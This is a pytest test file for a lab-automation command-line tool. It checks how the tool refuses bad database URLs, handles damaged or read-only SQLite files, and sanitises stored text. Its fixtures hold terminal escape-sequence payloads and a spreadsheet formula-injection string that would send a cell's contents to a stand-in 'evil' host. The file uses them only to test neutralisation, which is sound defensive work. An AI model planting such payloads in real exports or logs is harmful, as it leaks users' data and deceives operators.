"""Hostile or unlucky input to the command line (issue 15, items 3, 5, 6, 7): a
database URL that names no file, control characters in stored text, formulas in
exported cells, damaged and read-only database files. Every refusal is exit 2
(or 1) with a message and a hint, never a traceback, and changes nothing stored."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from loop.cli import app
from tests.conftest import CAMPAIGNS
from tests.support import unavailable

FROZEN = Path(__file__).resolve().parents[1] / "storage" / "data" / "loop-schema-1.db"
NAME = "carbonate-electrolyte"
runner = CliRunner()


def loop(*args: str):
    return runner.invoke(app, list(args))


# ---------------------------------------------------- item 3: no database file
IN_MEMORY = ["sqlite:///", "sqlite://", "sqlite:///:memory:", "sqlite+pysqlite://"]


@pytest.mark.parametrize("url", IN_MEMORY)
@pytest.mark.parametrize(
    "command",
    [
        ["run", "small.yaml"],
        ["resume", NAME],
        ["inspect", NAME],
        ["export", NAME],
        ["report", NAME],
        ["robots", "list"],
        ["db", "version"],
        ["db", "upgrade"],
        ["db", "backup", "copy.db"],
    ],
    ids=lambda c: " ".join(c[:2]) if c[0] == "db" else c[0],
)
def test_a_url_that_names_no_file_is_refused_by_every_command(
    url: str, command: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    small = (CAMPAIGNS / "alloy-emt.yaml").read_text()
    small = small.replace("size: 8", "size: 2").replace(
        "experiments: 24", "experiments: 2"
    )
    (tmp_path / "small.yaml").write_text(small)
    result = loop(*command, "--db", url)
    assert result.exit_code == 2, result.output
    assert "--db" in result.stderr and "names no database file" in result.stderr
    assert "sqlite:///loop.db" in result.stderr
    assert "Traceback" not in result.output and "internal error" not in result.output
    assert [p.name for p in tmp_path.iterdir()] == ["small.yaml"]


# ------------------------------------------------- items 5 and 6: stored text
HOSTILE = "\x1b[2J\x1b]0;pwned\x07\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\"
FORMULA = '=HYPERLINK("http://evil/?d="&A1, "click")'


@pytest.fixture
def failed(tmp_path: Path) -> tuple[str, int]:
    """A real SQLite file (the frozen schema-1 database, upgraded) in which a
    robot's trial failed with escape sequences in its reason and details."""
    from loop.records import TrialStatus
    from loop.storage import Store, migrations

    shutil.copyfile(FROZEN, tmp_path / "old.db")
    url = f"sqlite:///{tmp_path / 'old.db'}"
    migrations.upgrade(url)
    store = Store(url)
    (trial,) = [t for t in store.trials(NAME) if t.status is TrialStatus.CLAIMED]
    store.transition(
        trial.id,
        [TrialStatus.CLAIMED],
        TrialStatus.FAILED,
        reason=f"{FORMULA} {HOSTILE}",
        details={"job": {"name": HOSTILE, "state": "\x9b31m"}},
    )
    store.engine.dispose()
    return url, trial.id


def test_no_control_character_reaches_the_terminal(failed: tuple[str, int]) -> None:
    url, trial = failed
    for command in (
        ["inspect", NAME, "--explain", str(trial)],
        ["inspect", NAME],
        ["robots", "list", "--campaign", NAME],
    ):
        result = loop(*command, "--db", url)
        assert result.exit_code == 0, result.output
        for byte in ("\x1b", "\x07", "\x9b"):
            assert byte not in result.output, command
    shown = loop("inspect", NAME, "--explain", str(trial), "--db", url).stdout
    # what the robot said is still there for the operator to read
    assert "\\x1b[2J" in "".join(shown.split())
    assert "pwned" in shown


def test_printable_keeps_text_and_writes_out_control_characters() -> None:
    from loop.cli.common import printable

    assert printable("a\tb\nc é µ 1.5 ‰") == "a\tb\nc é µ 1.5 ‰"
    assert printable(HOSTILE) == (
        "\\x1b[2J\\x1b]0;pwned\\x07\\x1b]8;;http://evil\\x1b\\link\\x1b]8;;\\x1b\\"
    )
    assert printable("\r\x00\x7f\x9b\u202e") == "\\r\\x00\\x7f\\x9b\\u202e"


def test_csv_export_neutralises_formulas_but_keeps_numbers(
    failed: tuple[str, int],
) -> None:
    import csv
    import io

    from loop.service.export import _cell

    url, trial = failed
    result = loop("export", NAME, "--format", "csv", "--db", url)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    row = next(r for r in rows if int(r["id"]) == trial)
    assert row["failure_reason"] == f"'{FORMULA} {HOSTILE}"
    for r in rows:
        for cell in r.values():
            assert not cell or cell[0] not in "=+@\t\r"
            if cell.startswith("-"):
                float(cell)  # only numbers may start with a minus
    assert [_cell(x) for x in (-1.5, -3, "-3", "@SUM(A1)", "\tx", "+1", "a-b")] == [
        "-1.5",
        -3,
        "'-3",
        "'@SUM(A1)",
        "'\tx",
        "'+1",
        "a-b",
    ]


# ------------------------------------------- item 7: damaged or read-only files
def _digest(path: Path) -> bytes:
    import hashlib

    return hashlib.sha256(path.read_bytes()).digest()


def _random_bytes(path: Path) -> None:
    import random

    path.write_bytes(random.Random(15).randbytes(40_000))


def _garbage_page(path: Path) -> None:
    """A real campaign database with 4 KiB of garbage written over its middle."""
    from loop.storage import migrations

    shutil.copyfile(FROZEN, path)
    migrations.upgrade(f"sqlite:///{path}")
    data = bytearray(path.read_bytes())
    middle = len(data) // 2
    data[middle : middle + 4096] = b"\xa5" * 4096
    path.write_bytes(bytes(data))


@pytest.mark.parametrize(
    "damage", [_random_bytes, _garbage_page], ids=["random-bytes", "garbage-page"]
)
@pytest.mark.parametrize("command", [["version"], ["upgrade"], ["backup", "copy.db"]])
def test_db_commands_refuse_a_damaged_file_and_leave_it_as_it_was(
    damage, command: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "loop.db"
    damage(path)
    image = _digest(path)
    result = loop("db", *command, "--db", f"sqlite:///{path}")
    assert result.exit_code == 1, result.output
    assert f"error: the database file {path} is damaged" in result.stderr
    assert "up to date" not in result.output and "nothing to do" not in result.output
    assert "restore the last backup" in result.stderr
    assert f"sqlite3 {path} 'PRAGMA integrity_check'" in result.stderr
    assert "internal error" not in result.output and "Traceback" not in result.output
    assert _digest(path) == image
    assert not (tmp_path / "copy.db").exists()


@pytest.fixture
def read_only_old(tmp_path: Path):
    """The frozen schema-1 database in a file nobody may write to (chmod, or
    for root, who ignores permissions, the immutable attribute)."""
    import os
    import stat
    import subprocess

    path = tmp_path / "old.db"
    shutil.copyfile(FROZEN, path)
    path.chmod(stat.S_IRUSR | stat.S_IRGRP | stat.S_IROTH)
    immutable = False
    if os.geteuid() == 0:
        done = subprocess.run(["chattr", "+i", str(path)], capture_output=True)
        if done.returncode != 0:
            unavailable(
                "the read-only database test",
                "root ignores file modes and chattr +i is not allowed here",
                "run the tests as a non-root user, or where chattr may set +i",
            )
        immutable = True
    yield path
    if immutable:
        subprocess.run(["chattr", "-i", str(path)], check=True)


def test_upgrade_of_a_read_only_file_says_so_and_changes_nothing(
    read_only_old: Path,
) -> None:
    image = _digest(read_only_old)
    url = f"sqlite:///{read_only_old}"
    result = loop("db", "upgrade", "--db", url)
    assert result.exit_code == 1, result.output
    assert f"cannot write to the database {read_only_old}" in result.stderr
    assert "readonly database; nothing was changed" in result.stderr
    assert "hint: check that you may write the file and its directory" in result.stderr
    assert "internal error" not in result.output and "Traceback" not in result.output
    assert _digest(read_only_old) == image
    # reading it still works: version says what it is, backup copies it
    version = loop("db", "version", "--db", url)
    assert version.exit_code == 0 and "schema 1" in version.stdout
